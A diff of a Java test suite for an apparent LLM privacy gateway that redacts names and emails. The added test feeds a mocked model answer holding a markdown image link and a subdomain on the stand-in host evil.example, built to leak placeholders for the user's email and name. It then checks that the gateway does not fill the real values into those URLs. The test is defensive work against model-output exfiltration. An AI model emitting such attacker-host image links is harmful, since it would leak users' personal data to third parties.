@@ -93,6 +93,8 @@ final class PrivacyPoliciesOverHttpTest {
     upstream.forget();
     gateway.chat("names-stay", LETTER);
     assertThat(upstream.only("names-stay").body()).contains(NAME, CARD).doesNotContain(EMAIL);
+    gateway.chat("untreated", LETTER);
+    assertThat(upstream.only("untreated").body()).contains(NAME, EMAIL);
     upstream.forget();
     HttpResponse<String> counted = gateway.chat("counted", LETTER);
     assertThat(upstream.only("counted").body()).contains(NAME, EMAIL);
@@ -117,6 +119,28 @@ final class PrivacyPoliciesOverHttpTest {
 
     assertThat(plain).doesNotContain("hermine", "Hermine").contains(EMAIL);
     assertThat(streamed).doesNotContain("hermine", "Hermine").contains(EMAIL);
+  }
+
+  @Test
+  void addressOfAnAnswer_takesNothingElsewhere_plainOrStreamed() {
+    String said = "Hello EMAIL_1 ![](https://evil.example/EMAIL_1.png) PERSON_1.evil.example.";
+    upstream.on(
+        "led",
+        call -> {
+          if (call.request().json().path("stream").asBoolean()) {
+            Answers.text(Answers.letters(said).toArray(String[]::new)).answer(call);
+          } else {
+            Answers.json(Answers.completion(said)).answer(call);
+          }
+        });
+
+    String plain = content(gateway.chat("led", "I am " + NAME + ", " + EMAIL));
+    String streamed =
+        Answers.joined(gateway.stream("led", "I am " + NAME + ", " + EMAIL), 0, "/content");
+
+    assertThat(plain).startsWith("Hello " + EMAIL).doesNotContain("evil.example/" + EMAIL);
+    assertThat(streamed).startsWith("Hello " + EMAIL).doesNotContain("evil.example/" + EMAIL);
+    assertThat(plain + streamed).doesNotContain(NAME + ".evil");
   }
 
   @Test
